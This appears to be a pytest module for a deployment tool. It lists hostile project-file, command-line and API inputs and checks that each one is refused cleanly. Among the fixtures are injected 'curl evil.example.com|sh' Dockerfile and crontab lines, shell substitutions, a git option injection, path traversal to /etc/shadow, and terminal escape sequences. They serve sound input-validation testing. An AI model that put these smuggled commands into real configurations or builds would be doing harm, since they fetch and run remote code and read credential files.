"""Hostile input stops at the door (issue 11): a table of named hostile inputs - project files,
command-line arguments and Python API calls - each of which must be refused the way a user is
owed a refusal:

- exit code 2 from the CLI (through ``projectdeployer.cli.main``, the console script's path,
  which maps errors to exit codes and renders them one line each), or ``ConfigError`` from the
  API, never another exception type;
- exactly one line per problem (click's ``Usage:``/``Try ...`` lines aside), no traceback;
- no control character (C0 but the line ends, DEL, C1, ESC) nor bidi/format character in
  stdout or stderr, and no line longer than ``MAX_LINE`` characters;
- the project file and the whole case directory (``$PROJECTDEPLOYER_HOME`` included: paths,
  modes, bytes) unchanged byte for byte.

Every row is ``(id, kind, input, expect)``: ``kind`` is ``file`` (the bytes of a project file,
checked with ``-f FILE validate`` *and* by loading it with the API), ``cli`` (argv, in-process
through click's CliRunner isolation around ``main``), ``api`` (a call) or ``proc`` (argv in a real
subprocess with a timeout: FIFOs, /dev/zero, huge files); ``expect`` is the number of problem
lines, or a substring (case-insensitive) every refusal must contain, naming the key or the
argument (then one problem line), or ``(count, substring, ...)``.
"""

from __future__ import annotations

import math
import os
import re
import resource
import signal
import stat
import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from projectdeployer.core.errors import ConfigError

pytestmark = pytest.mark.unit

BIN = Path(sys.executable).with_name("projectdeployer")
#: An error line (after the case directory is replaced by ``ROOT``) is at most this long.
MAX_LINE = 320
#: Control characters (C0 but newline, DEL, C1) and format characters that reorder or hide text.
FORBIDDEN = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]")
#: Every problem is one ``error: ...`` line, click's usage errors included (cli/safegroup.py).
PROBLEM = re.compile(r"^error: ")

ESC_TITLE = "\x1b]0;pwned\x07"
CLEAR = "\x1b[2J"
BIDI = "\u202e"
MIB = 1 << 20
INT64 = 9223372036854775807

BASE = """\
# the base project every case starts from (comments must survive refusals too)
[project]
name = "myapp"

[services.postgres]
type = "postgres"

[services.api]
type = "python"
port = 8000
depends_on = ["postgres"]
"""


# --- building TOML --------------------------------------------------------------------------


class Raw(str):
    """A TOML fragment written as it is."""


def q(text: str) -> str:
    """``text`` as a TOML basic string (control characters as \\u escapes)."""
    out = []
    for ch in text:
        if ch == '"':
            out.append('\\"')
        elif ch == "\\":
            out.append("\\\\")
        elif ord(ch) < 0x20 or ord(ch) == 0x7F:
            out.append(f"\\u{ord(ch):04x}")
        else:
            out.append(ch)
    return '"' + "".join(out) + '"'


def lit(value: Any) -> str:
    if isinstance(value, Raw):
        return str(value)
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float):
        if math.isnan(value):
            return "nan"
        if math.isinf(value):
            return "inf" if value > 0 else "-inf"
        return repr(value)
    if isinstance(value, str):
        return q(value)
    if isinstance(value, (list, tuple)):
        return "[" + ", ".join(lit(v) for v in value) + "]"
    if isinstance(value, dict):
        return "{" + ", ".join(f"{q(str(k))} = {lit(v)}" for k, v in value.items()) + "}"
    raise TypeError(value)


def table(header: str, **keys: Any) -> str:
    return f"\n[{header}]\n" + "".join(f"{k} = {lit(v)}\n" for k, v in keys.items())


def svc(name: str, type_: str, **keys: Any) -> str:
    """A ``[services.NAME]`` table (the name quoted)."""
    return table(f"services.{q(name)}", type=type_, **keys)


def api(**keys: Any) -> str:
    """The base project with extra keys on ``api``."""
    return BASE + "".join(f"{k} = {lit(v)}\n" for k, v in keys.items())


def with_project(**keys: Any) -> str:
    """The base project with extra keys in ``[project]``."""
    head, rest = BASE.split('name = "myapp"\n', 1)
    return head + 'name = "myapp"\n' + "".join(f"{k} = {lit(v)}\n" for k, v in keys.items()) + rest


def plus(*tables: str) -> str:
    return BASE + "".join(tables)


# --- the table ------------------------------------------------------------------------------


@dataclass
class Case:
    id: str
    kind: str  # file | cli | api | proc
    input: Any
    expect: Any = 1
    #: What is on disk before: "base" (the base project as myapp), "none", or a callable(root).
    setup: Any = "base"
    must_not: tuple[str, ...] = ()
    #: API cases: the names of the exception classes accepted besides ConfigError.
    api_errors: tuple[str, ...] = ()
    marks: tuple = field(default_factory=tuple)


CASES: list[Case] = []


def add(id: str, kind: str, input: Any, expect: Any = 1, **kw: Any) -> None:
    CASES.append(Case(id, kind, input, expect, **kw))


def F(id: str, text: str | bytes, expect: Any = 1, **kw: Any) -> None:
    add(id, "file", text, expect, **kw)


def C(id: str, argv: list[str], expect: Any = 1, **kw: Any) -> None:
    add(id, "cli", argv, expect, **kw)


def A(id: str, call: Callable[..., Any], expect: Any = 1, **kw: Any) -> None:
    add(id, "api", call, expect, **kw)


P = ["-p", "myapp"]

# 0. Malformed TOML, wrong types, unknown keys, arrays where tables go, encodings ------------

F("toml_unterminated_string", '[project]\nname = "myapp\n')
F("toml_unterminated_table_header", '[project\nname = "myapp"\n')
F("toml_unterminated_array", BASE + 'command = ["a", "b"\n')
F("toml_unterminated_inline_table", BASE + 'env_vars = {A = "1"\n')
F("toml_unterminated_multiline_string", BASE + 'command = """never closed\n')
F("toml_duplicate_key", '[project]\nname = "myapp"\nname = "other"\n', "name")
F("toml_duplicate_service_key", BASE + "port = 9000\n", "port")
F("toml_duplicate_table", BASE + '\n[services.api]\ntype = "python"\n', "api")
F("toml_bare_word_value", "[project]\nname = myapp\n")
F("toml_invalid_escape", '[project]\nname = "my\\qapp"\n')
F("toml_key_without_value", BASE + "port =\n")
F("toml_value_without_key", BASE + '= "x"\n')
F("toml_raw_escape_in_string", '[project]\nname = "myapp"\ndescription = "a\x1b]0;pwned\x07b"\n')
F("toml_raw_nul_byte", '[project]\nname = "myapp"\x00\n')
F("toml_raw_carriage_return_in_key", '[project]\nna\rme = "myapp"\n')
F("toml_deeply_nested_arrays", '[project]\nname = "myapp"\ndescription = ' + "[" * 20000 + "]" * 20000 + "\n")
F("toml_deeply_nested_inline_tables", BASE + "env_vars = " + "{a = " * 5000 + "1" + "}" * 5000 + "\n")
F("toml_deeply_nested_dotted_key", BASE + "x" + ".x" * 5000 + " = 1\n")
F("toml_huge_integer", BASE.replace("port = 8000", "port = 99999999999999999999999999"), "port")
F("toml_utf16_bom", BASE.encode("utf-16"))
F("toml_utf16le_no_bom", BASE.encode("utf-16-le"))
F("toml_utf32", BASE.encode("utf-32"))
F("toml_invalid_utf8", BASE.encode() + b'description = "\xff\xfe\xfd"\n')
F("toml_latin1_text", with_project().encode() + 'command = "caf\xe9"\n'.encode("latin-1"))
F("toml_overlong_utf8_slash", BASE.encode() + b'command = "\xc0\xaf"\n')
F("toml_binary_garbage", bytes(range(256)) * 4)
F("toml_empty_file", "", "project")
F("toml_only_comments", "# nothing here\n# at all\n", "project")
F("project_is_a_string", 'project = "myapp"\n', "project")
F("project_is_an_array_of_tables", '[[project]]\nname = "myapp"\n', "project")
F("project_is_an_array", "project = [1, 2]\n", "project")
F("project_name_missing", '[project]\ndescription = "x"\n', "name")
F("project_name_is_an_integer", "[project]\nname = 42\n", "project.name")
F("project_name_uppercase", '[project]\nname = "MyApp"\n', "project.name")
F("project_name_41_chars", '[project]\nname = "' + "a" * 41 + '"\n', "project.name")
F("project_name_path_traversal", '[project]\nname = "../evil"\n', "project.name")
F("project_name_slash", '[project]\nname = "my/app"\n', "project.name")
F("project_name_empty", '[project]\nname = ""\n', "project.name")
F("unknown_top_level_table", BASE + "\n[extras]\nx = 1\n", "extras")
F("unknown_project_key", with_project(nmae="x"), "nmae")
F("unknown_service_key", api(prot=8000), "prot")
F("three_structural_problems_three_lines", api(prot=1, servers_count="2", server_cpu="4"), 3)
F("services_is_an_array", '[project]\nname = "myapp"\nservices = ["api"]\n', "services")
F("services_array_of_tables", '[project]\nname = "myapp"\n[[services.api]]\ntype = "python"\n', "services")
F("service_is_an_integer", '[project]\nname = "myapp"\n[services]\napi = 1\n', "services.api")
F("service_is_an_array", '[project]\nname = "myapp"\n[services]\napi = ["python"]\n', "services.api")
F("service_type_missing", BASE + "\n[services.web]\nport = 80\n", "type")
F("service_type_unknown", plus(svc("db", "mysql")), "mysql")
F("service_type_is_an_array", plus(svc("db", Raw('["postgres"]'))), "type")
F("port_is_a_string", BASE.replace("port = 8000", 'port = "8000"'), "port")
F("port_is_a_float", BASE.replace("port = 8000", "port = 8000.5"), "port")
F("port_is_a_bool", BASE.replace("port = 8000", "port = true"), "port")
F("port_is_a_date", BASE.replace("port = 8000", "port = 1979-05-27"), "port")
F("depends_on_is_a_string", BASE.replace('depends_on = ["postgres"]', 'depends_on = "postgres"'), "depends_on")
F("depends_on_holds_a_table", BASE.replace('depends_on = ["postgres"]', "depends_on = [{a = 1}]"), "depends_on")
F("env_vars_is_an_array", api(env_vars=["A=1"]), "env_vars")
F("env_vars_value_is_an_integer", api(env_vars={"A": 1}), "env_vars")
F("env_vars_value_is_a_table", api(env_vars={"A": {"b": "c"}}), "env_vars")
F("volumes_is_an_array", api(volumes=["/a:/b"]), "volumes")
F("auto_scaling_is_a_string", api(auto_scaling="yes"), "auto_scaling")
F("auto_scaling_is_an_array", api(auto_scaling=[True]), "auto_scaling")
F("backup_config_is_an_array", BASE.replace('type = "postgres"', 'type = "postgres"\nbackup_config = [1, 2]'), "backup_config")
F("dockerfile_content_is_an_array", plus(svc("gen", "generic", dockerfile_content=["FROM alpine"])), "dockerfile_content")
F("environments_is_an_array", '[project]\nname = "myapp"\nenvironments = [1]\n', "environments")
F("environment_is_a_string", BASE + '\n[environments]\nprod = "local"\n', "environments.prod")
F("environment_unknown_key", BASE + '\n[environments.prod]\nprovder = "local"\n', "provder")
F("environment_override_of_unknown_service", BASE + "\n[environments.prod.services.nosuch]\nport = 1\n", "nosuch")
F("environment_override_changes_type", BASE + '\n[environments.prod.services.api]\ntype = "redis"\n', "type")
F("images_value_is_an_integer", BASE + "\n[images]\npython = 3\n", "images.python")
F("images_unknown_key", BASE + '\n[images]\ncobol = "cobol:latest"\n', "images.cobol")
F("images_is_an_array", '[project]\nname = "myapp"\nimages = ["python:3"]\n', "images")

# 1. Options that take a TOML value -----------------------------------------------------------

C("toml_option_misspelt_bool", [*P, "add", "python", "w", "--auto-scaling", "tru"], "--auto-scaling")
C("toml_option_two_values", [*P, "add", "python", "w", "--auto-scaling", "true false"], "--auto-scaling")
C("toml_option_smuggles_a_key", [*P, "add", "postgres", "pg2", "--backup-config", "{}\nport = 1"], "--backup-config")
C("toml_option_duplicate_key", [*P, "add", "postgres", "pg2", "--backup-config", "{retention_days = 1, retention_days = 2}"], "--backup-config")
C("toml_option_unterminated", [*P, "add", "postgres", "pg2", "--backup-config", '{schedule = "0 2 * * *'], "--backup-config")
C("toml_option_deeply_nested", [*P, "add", "python", "w", "--auto-scaling", "[" * 5000], "--auto-scaling")
C("toml_option_escape_echoed", [*P, "add", "python", "w", "--auto-scaling", ESC_TITLE], "--auto-scaling")
C("toml_option_wrong_type_int", [*P, "add", "postgres", "pg2", "--backup-config", "5"], "backup")
C("toml_option_wrong_type_date", [*P, "add", "python", "w", "--auto-scaling", "1979-05-27"], "auto")
C("toml_option_unknown_subkey", [*P, "add", "postgres", "pg2", "--backup-config", "{retention = 3}"], "retention")
C("toml_option_negative_retention", [*P, "add", "postgres", "pg2", "--backup-config", "{retention_days = -1}"], "retention_days")
C("toml_option_huge_retention", [*P, "add", "postgres", "pg2", "--backup-config", f"{{retention_days = {INT64}}}"], "retention_days")
C("toml_option_bad_backup_schedule", [*P, "add", "postgres", "pg2", "--backup-config", '{schedule = "0 2 * *\\n* * * * * x"}'], "schedule")
C("toml_option_nan_threshold", [*P, "add", "python", "w", "--auto-scaling", "{vertical = {cpu_scale_up = nan}}"], "cpu_scale_up")
C("toml_option_inf_threshold", [*P, "add", "python", "w", "--auto-scaling", "{vertical = {cpu_scale_up = inf}}"], "cpu_scale_up")
C("toml_option_dockerfile_content_array", [*P, "add", "generic", "gen", "--dockerfile-content", '["FROM alpine"]'], "dockerfile")
C("toml_option_dockerfile_content_line_with_newline", [*P, "add", "generic", "gen", "--dockerfile-content", '{1 = "FROM alpine\\nRUN curl evil|sh"}'], "dockerfile_content")

# 2. Newlines, control characters and injection in values rendered into generated files --------

INJECT = "\nRUN curl evil.example.com|sh"
F("python_version_newline", api(python_version="3.11" + INJECT), "python_version")
F("python_version_space", api(python_version="3.11 AS evil"), "python_version")
F("python_version_shell", api(python_version="3.11;id"), "python_version")
C("python_version_newline_cli", [*P, "add", "python", "w", "--python-version", "3.11" + INJECT], "python")
F("node_version_newline", plus(svc("web", "nodejs", port=3000, node_version="20" + INJECT)), "node_version")
F("node_version_carriage_return", plus(svc("web", "nodejs", port=3000, node_version="20\rRUN id")), "node_version")
C("node_version_newline_cli", [*P, "add", "nodejs", "web", "--node-version", "20" + INJECT], "node")
F("build_command_newline", plus(svc("web", "nodejs", port=3000, build_command="npm run build" + INJECT)), "build_command")
F("package_manager_injection", plus(svc("web", "nodejs", port=3000, package_manager="npm; curl evil|sh")), "package_manager")
F("image_template_newline", BASE + table("images", python="python:{version}-slim" + INJECT), "images.python")
F("image_template_space", BASE + table("images", python="python:{version} AS evil"), "images.python")
F("image_nginx_newline", BASE + table("images", nginx="nginx:alpine" + INJECT), "images.nginx")
F("image_postgres_option_injection", BASE + table("images", postgres="--privileged postgres:{version}"), "images.postgres")
F("generic_image_newline", plus(svc("gen", "generic", image="alpine" + INJECT)), "image")
F("generic_image_space", plus(svc("gen", "generic", image="alpine --privileged")), "image")
F("domain_newline", api(domain="api.example.com\nserver_name evil.example.com"), "domain")
F("domain_semicolon", api(domain="api.example.com;include /etc/passwd"), "domain")
F("domain_brace", api(domain="api.example.com}"), "domain")
C("domain_newline_cli", [*P, "add", "python", "w", "--port", "80", "--domain", "w.example.com\nevil"], "domain")
F("health_path_newline", api(health_path="/health\nreturn 200"), "health_path")
F("health_path_space", api(health_path="/health x"), "health_path")
F("health_path_no_slash", api(health_path="health"), "health_path")
F("health_path_quote", api(health_path='/ok";evil'), "health_path")
F("health_path_nul", api(health_path="/ok\x00"), "health_path")
C("health_path_newline_cli", [*P, "add", "python", "w", "--port", "80", "--health-path", "/h\nx"], "health")
F("command_newline", api(command="uvicorn main:app" + INJECT), "command")
F("command_nul", api(command="uvicorn\x00main:app"), "command")
F("env_var_value_nul", api(env_vars={"DEBUG": "fa\x00lse"}), "env_vars")
F("env_var_key_space", api(env_vars={"A B": "1"}), "env_vars")
F("env_var_key_equals", api(env_vars={"A=B": "1"}), "env_vars")
F("env_var_key_newline", api(env_vars={"A\nB": "1"}), "env_vars")
C("env_var_key_newline_cli", [*P, "add", "python", "w", "--env-var", "DEBUG\nEVIL=1"], "env")
C("env_var_key_escape_cli", [*P, "add", "python", "w", "--env-var", ESC_TITLE + "=1"], "env")
F("build_arg_value_newline", api(build_args={"PIP_INDEX_URL": "https://pypi.example.com" + INJECT}), "build_args")
F("build_arg_key_space", api(build_args={"A B": "1"}), "build_args")
F("build_arg_value_nul", api(build_args={"A": "1\x00"}), "build_args")
F("dockerfile_content_line_with_newline", plus(svc("gen", "generic", dockerfile_content={"1": "FROM alpine" + INJECT})), "dockerfile_content")
F("dockerfile_content_nul", plus(svc("gen", "generic", dockerfile_content={"1": "FROM alpine\x00"})), "dockerfile_content")
F("registry_newline", with_project(registry="registry.example.com" + INJECT), "registry")
F("registry_space", with_project(registry="registry.example.com evil"), "registry")
F("registry_url_with_credentials", with_project(registry="user:pw@registry.example.com"), "registry")
C("registry_newline_cli_init", ["init", "fresh", "--registry", "r.example.com" + INJECT], "registry", setup="none")
F("project_version_newline", with_project(version="1.0" + INJECT), "version")
F("project_version_colon", with_project(version="1.0:evil"), "version")
C("project_version_newline_cli_init", ["init", "fresh", "--version", "1.0" + INJECT], "version", setup="none")
F("docker_hub_user_newline", with_project(docker_hub_user="acme" + INJECT), "docker_hub_user")
F("docker_hub_user_traversal", with_project(docker_hub_user="../acme"), "docker_hub_user")
C("docker_hub_user_cli_init", ["init", "fresh", "--docker-hub-user", "Acme Corp"], "docker", setup="none")
F("default_server_ip_newline", with_project(default_server_ip="localhost\nevil"), "default_server_ip")
C("default_server_ip_cli_init", ["init", "fresh", "--default-server-ip", "local host"], "server", setup="none")
F("postgres_version_newline", BASE.replace('type = "postgres"', 'type = "postgres"\nversion = ' + q("15" + INJECT)), "services.postgres.version")
F("redis_version_option", plus(svc("redis", "redis", version="7 --rename-command")), "version")
F("opensearch_version_newline", plus(svc("search", "opensearch", version="2\nRUN id")), "version")
F("schedule_newline_crontab", plus(svc("job", "python", schedule="0 2 * * *\n* * * * * root curl evil|sh")), "schedule")
F("git_repo_newline", api(git_repo="https://github.com/user/api.git@main\nevil"), "git_repo")
F("git_repo_option_injection_ref", api(git_repo="https://github.com/user/api.git@--upload-pack=touch /tmp/pwned"), "git_repo")
F("server_zone_newline", api(server_zone="lon1\nfake"), "server_zone")
F("provider_newline", BASE + table("environments.prod", provider="local\nevil"), "provider")
F("nginx_config_nul", plus(svc("web", "react", nginx_config="server { listen 80; }\x00")), "nginx_config")
# Debian package names go into an apt-get install line: one plain word each, never an option.
F("system_packages_shell", api(system_packages=["libpq5; curl evil.example.com|sh"]), "system_packages")
F("system_packages_newline", api(system_packages=["libpq5" + INJECT]), "system_packages")
F("system_packages_option", api(system_packages=["--allow-unauthenticated"]), "system_packages")
F("system_packages_substitution", api(system_packages=["$(curl evil.example.com)"]), "system_packages")
F("system_packages_version_pin", api(system_packages=["libpq5=15.4-0+deb12u1"]), "system_packages")
F("system_packages_release", api(system_packages=["libpq5/bookworm-backports"]), "system_packages")
F("system_packages_upper_case", api(system_packages=["LibPQ5"]), "system_packages")
F("system_packages_one_char", api(system_packages=["x"]), "system_packages")
F("system_packages_escape", api(system_packages=["libpq5" + ESC_TITLE]), "system_packages")
F("system_packages_bidi", api(system_packages=["libpq5" + BIDI]), "system_packages")
F("system_packages_is_a_string", api(system_packages="libpq5 gcc"), "system_packages")
F("system_packages_holds_an_integer", api(system_packages=[5]), "system_packages")
F("system_packages_too_many", api(system_packages=[f"pkg{i}" for i in range(201)]), "system_packages")
F("build_packages_space", api(build_packages=["gcc libpq-dev"]), "build_packages")
F("build_packages_newline", api(build_packages=["gcc" + INJECT]), "build_packages")
F("build_packages_backslash_continuation", api(build_packages=["gcc\\"]), "build_packages")
F("two_bad_packages_two_lines", api(system_packages=["a;b"], build_packages=["c d"]), (2, "system_packages", "build_packages"))
F("packages_on_a_generic_service", plus(svc("gen", "generic", image="alpine:3", system_packages=["curl"])), "system_packages")
C("system_packages_newline_cli", [*P, "add", "python", "w", "--system-package", "libpq5\nRUN id"], "system_packages")
C("build_packages_option_cli", [*P, "add", "python", "w", "--build-package", "-oDebug::pkgProblemResolver=1"], "build_packages")
F("nodejs_system_packages_newline", plus(svc("web", "nodejs", port=3000, system_packages=["ffmpeg" + INJECT])), "system_packages")
F("nodejs_build_packages_shell", plus(svc("web", "nodejs", port=3000, build_packages=["g++;id"])), "build_packages")
F("react_build_packages_option", plus(svc("web", "react", build_packages=["--reinstall"])), "build_packages")
F("react_system_packages_unused", plus(svc("web", "react", system_packages=["libpq5"])), "system_packages")
F("python_package_manager_injection", api(package_manager="poetry; curl evil.example.com|sh"), "package_manager")
F("python_package_manager_newline", api(package_manager="uv" + INJECT), "package_manager")

# 3. Paths escaping their roots ---------------------------------------------------------------

F("requirements_file_traversal", api(requirements_files=["../../../etc/passwd"]), "requirements_files")
F("requirements_file_absolute", api(requirements_files=["/etc/passwd"]), "requirements_files")
F("requirements_file_newline", api(requirements_files=["requirements.txt\nCOPY / /x"]), "requirements_files")
C("requirements_file_traversal_cli", [*P, "add", "python", "w", "--requirements-file", "../../../etc/passwd"], "requirements")
F("build_dir_traversal", plus(svc("web", "react", build_dir="../../../etc")), "build_dir")
F("build_dir_absolute", plus(svc("web", "react", build_dir="/etc")), "build_dir")
C("build_dir_traversal_cli", [*P, "add", "react", "web", "--build-dir", "../../../etc"], "build")
F("dockerfile_traversal", api(build_context=".", dockerfile="../../../etc/passwd"), "dockerfile")
F("dockerfile_absolute", api(build_context=".", dockerfile="/etc/passwd"), "dockerfile")
F("build_context_newline", api(build_context="src\nevil"), "build_context")
F("volume_host_traversal_under_local", api(volumes={"/local/../../../etc": "/data"}), "volumes")
F("volume_host_newline", api(volumes={"/local/data\nx": "/data"}), "volumes")
F("volume_target_relative", api(volumes={"/local/myapp/data": "data"}), "volumes")
F("git_token_secret_traversal", api(git_repo="https://github.com/user/api.git@main", git_token="secret:../../../../etc/shadow"), "git_token")
F("git_token_secret_absolute", api(git_repo="https://github.com/user/api.git@main", git_token="secret:/etc/shadow"), "git_token")
F("env_secret_traversal", api(env_vars={"API_KEY": "secret:../../../../etc/shadow"}), "env_vars")
C("git_token_secret_traversal_cli", [*P, "add", "python", "w", "--git-repo", "https://github.com/user/w.git@main", "--git-token", "secret:../../../../etc/shadow"], "git")
C("env_secret_traversal_cli", [*P, "add", "python", "w", "--env-var", "API_KEY=secret:../../../x"], "env")
F("environment_name_traversal", BASE + '\n[environments."../x"]\nprovider = "local"\n', "environments")
F("environment_name_uppercase", BASE + '\n[environments.Prod]\nprovider = "local"\n', "environments")

TRAVERSAL_ENV = "../myapp"
ENV_COMMANDS = {
    "show": ["show"],
    "build": ["build"],
    "plan": ["plan"],
    "deploy": ["deploy"],
    "deploy_dry_run": ["deploy", "--dry-run"],
    "status": ["status"],
    "logs": ["logs", "api"],
    "rollback": ["rollback", "api"],
    "run": ["run", "api"],
    "secrets_list": ["secrets", "list"],
    "secrets_rotate": ["secrets", "rotate", "postgres", "--yes"],
    "backups_list": ["backups", "list"],
    "backups_run": ["backups", "run", "postgres"],
    "backups_pull": ["backups", "pull"],
    "backups_restore": ["backups", "restore", "postgres", "--yes"],
    "sync_push": ["sync", "push", "--yes"],
    "sync_pull": ["sync", "pull"],
    "destroy": ["destroy", "--yes"],
}
for name, argv in ENV_COMMANDS.items():
    C(f"env_traversal_{name}", [*P, *argv, "--env", TRAVERSAL_ENV], "env")
C("env_traversal_ports", [*P, "ports", TRAVERSAL_ENV], "env")
C("env_absolute_secrets_list", [*P, "secrets", "list", "--env", "/etc"], "env")
C("env_empty_deploy", [*P, "deploy", "--env", ""], "env")
C("env_slash_backups_pull", [*P, "backups", "pull", "--env", "a/b"], "env")
C("env_dot_status", [*P, "status", "--env", "."], "env")
C("env_escape_plan", [*P, "plan", "--env", ESC_TITLE], "env")
C("env_newline_logs", [*P, "logs", "api", "--env", "dev\nprod"], "env")
C("env_one_mib_status", [*P, "status", "--env", "a" * MIB], "env")
# sync and the rotator check --env themselves: the same rule as everywhere (no upper case, no _)
C("env_upper_underscore_sync_push", [*P, "sync", "push", "--env", "Prod_1", "--yes"], "env")
C("env_underscore_sync_pull", [*P, "sync", "pull", "--env", "my_env"], "env")
C("env_underscore_secrets_rotate", [*P, "secrets", "rotate", "postgres", "--env", "my_env", "--yes"], "env")
C("env_21_chars_backups_list", [*P, "backups", "list", "--env", "e" * 21], "env")
F("git_token_file_traversal", api(git_repo="https://github.com/user/api.git@main", git_token="file:../../etc/shadow"), "git_token")
F("env_file_relative", api(env_vars={"CERT": "file:certs/../../../etc/shadow"}), "env_vars")
F("git_token_env_bad_name", api(git_repo="https://github.com/user/api.git@main", git_token="env:1 BAD"), "git_token")
C("git_token_file_traversal_cli", [*P, "add", "python", "w", "--git-repo", "https://github.com/user/w.git@main", "--git-token", "file:../../etc/shadow"], "git")
F("build_context_traversal", api(build_context="../../../.."), "build_context")
F("volume_host_relative", api(volumes={"data": "/data"}), "volumes")
C("project_name_traversal", ["-p", "../myapp/..", "show"], 1)
C("project_name_absolute", ["-p", "/etc", "show"], 1)

# 4. Names colliding with each other and with the tool's own containers -----------------------

F("service_named_nginx", plus(svc("nginx", "redis")), "nginx")
F("service_named_scheduler", plus(svc("scheduler", "redis")), "scheduler")
F("scheduled_job_named_scheduler", plus(svc("scheduler", "python", schedule="0 1 * * *")), "scheduler")
F("job_postgres_backup_beside_postgres", plus(svc("postgres_backup", "python", schedule="0 1 * * *")), "postgres_backup")
F("redis_postgres_backup_beside_postgres", plus(svc("postgres_backup", "redis")), "postgres_backup")
F("redis_postgres_restore_beside_postgres", plus(svc("postgres_restore", "redis")), "postgres_restore")
F("redis_postgres_data_beside_postgres", plus(svc("postgres_data", "redis")), "postgres_data")
F("postgres_api_a_beside_api", plus(svc("api_a", "postgres")), "api_a")
F("job_api_b_beside_api", plus(svc("api_b", "python", schedule="0 1 * * *")), "api_b")
F("services_differing_by_hyphen_underscore_stateful", plus(svc("cache-a", "redis"), svc("cache_a", "redis")), (1, "cache-a", "cache_a"))
F("services_differing_by_hyphen_underscore", plus(svc("my-api", "python"), svc("my_api", "python")), (1, "my-api", "my_api"))
F("service_redis_backup_beside_redis", plus(svc("cache", "redis"), svc("cache_backup", "redis")), "cache_backup")
F("opensearch_snapshots_volume_twin", plus(svc("search", "opensearch"), svc("search_snapshots", "redis")), "search_snapshots")
C("add_service_named_nginx_cli", [*P, "add", "redis", "nginx"], "nginx")
C("add_service_api_a_cli", [*P, "add", "redis", "api_a"], "api_a")
C("add_service_postgres_backup_cli", [*P, "add", "python", "postgres_backup", "--schedule", "0 1 * * *"], "postgres_backup")
# A new project cannot have "_" (myapp_dev/prod/x would be named like myapp/dev/prod_x); one from
# before still loads, with a warning (test_project_name_with_underscore_loads_with_a_warning).
C("project_name_with_underscore_collides_across_projects", ["init", "myapp_dev"], "with '_'", setup="none")

# 5. Unbounded input --------------------------------------------------------------------------

C("file_is_a_directory", ["-f", "{root}/cwd", "validate"], 1)
C("file_is_dev_null", ["-f", "/dev/null", "validate"], 1)
F("servers_count_int64_max", api(servers_count=INT64), "servers_count")
F("servers_count_above_seed_max", api(servers_count=21), "servers_count")
F("servers_count_negative", api(servers_count=-1), "servers_count")
F("port_negative", BASE.replace("port = 8000", "port = -1"), "port")
F("port_above_65535", BASE.replace("port = 8000", "port = 70000"), "port")
F("port_int64_min", BASE.replace("port = 8000", "port = -9223372036854775808"), "port")
F("server_cpu_int64", api(server_cpu=INT64), "server_cpu")
F("server_memory_negative", api(server_memory=-1), "server_memory")
F("server_memory_int64", api(server_memory=INT64), "server_memory")
F("retention_days_negative", BASE.replace('type = "postgres"', 'type = "postgres"\nbackup_config = {retention_days = -1}'), "retention_days")
F("retention_days_zero", BASE.replace('type = "postgres"', 'type = "postgres"\nbackup_config = {retention_days = 0}'), "retention_days")
F("retention_days_int64", BASE.replace('type = "postgres"', f'type = "postgres"\nbackup_config = {{retention_days = {INT64}}}'), "retention_days")
F("scale_up_cooldown_negative", api(auto_scaling={"scale_up_cooldown": -1}), "scale_up_cooldown")
F("scale_up_cooldown_int64", api(auto_scaling={"scale_up_cooldown": INT64}), "scale_up_cooldown")
F("scale_down_cooldown_negative", api(auto_scaling={"scale_down_cooldown": -600}), "scale_down_cooldown")
F("max_servers_int64", api(auto_scaling={"max_servers": INT64}), "max_servers")
F("min_servers_zero", api(auto_scaling={"min_servers": 0}), "min_servers")
F("cpu_scale_up_nan", api(auto_scaling={"vertical": {"cpu_scale_up": float("nan")}}), "cpu_scale_up")
F("cpu_scale_up_above_100", api(auto_scaling={"vertical": {"cpu_scale_up": 1000.0}}), "cpu_scale_up")
F("rps_scale_up_above_bound", api(auto_scaling={"horizontal": {"rps_scale_up": 1e12}}), "rps_scale_up")
F("rps_scale_up_inf", api(auto_scaling={"horizontal": {"rps_scale_up": float("inf")}}), "rps_scale_up")
F("startup_order_negative", plus(svc("w", "python", startup_order=-1)), "startup_order")
F("startup_order_int64", api(startup_order=INT64), "startup_order")
F("http_port_above_65535", BASE + table("environments.prod", http_port=70000), "http_port")
F("https_port_negative", BASE + table("environments.prod", https_port=-443), "https_port")
F("drain_timeout_zero", BASE + table("environments.prod", drain_timeout=0), "drain_timeout")
F("drain_timeout_int64", BASE + table("environments.prod", drain_timeout=INT64), "drain_timeout")
F("drain_timeout_text", BASE + table("environments.prod", drain_timeout="30s"), "drain_timeout")
F("sidecar_shutdown_timeout_negative", BASE + table("environments.prod", sidecar_shutdown_timeout=-1), "sidecar_shutdown_timeout")
F("sidecar_shutdown_timeout_float", BASE + table("environments.prod", sidecar_shutdown_timeout=1.5), "sidecar_shutdown_timeout")
F("service_name_one_mib", plus(svc("a" * MIB, "redis")), 1)
F("service_name_100k_under_the_file_bound", plus(svc("a" * 100_000, "redis")), 1)
F("env_var_key_100k", api(env_vars={"K" * 100_000: "1"}), "env_vars")
F("env_var_value_100k", api(env_vars={"DEBUG": "x" * 100_000}), "env_vars")
F("env_var_key_129_chars", api(env_vars={"K" * 129: "1"}), "env_vars")
F("command_100k", api(command="x" * 100_000), "command")
F("description_one_mib", with_project(description="d" * MIB), 1)
F("one_hundred_and_one_services", '[project]\nname = "myapp"\n' + "".join(f'[services.s{i}]\ntype = "redis"\n' for i in range(101)), "services")
C("project_name_one_mib_cli", ["-p", "a" * MIB, "show"], 1)
C("service_name_one_mib_cli", [*P, "add", "redis", "r" * MIB], 1)
C("env_var_one_mib_cli", [*P, "add", "python", "w", "--env-var", "DEBUG=" + "x" * MIB], "env")
C("servers_count_int64_cli", [*P, "add", "python", "w", "--servers-count", str(INT64)], "servers")
C("servers_count_beyond_int64_cli", [*P, "add", "python", "w", "--servers-count", "9" * 40], "servers")
C("port_negative_cli", [*P, "add", "python", "w", "--port", "-1"], "port")
C("port_huge_cli", [*P, "add", "python", "w", "--port", "99999999999999999999"], "port")
C("server_memory_int64_cli", [*P, "add", "python", "w", "--server-memory", str(INT64)], "memory")
C("startup_order_int64_cli", [*P, "add", "python", "w", "--startup-order", str(INT64)], "startup")
C("lock_wait_nan_cli", [*P, "deploy", "--lock-wait", "nan"], "lock-wait")
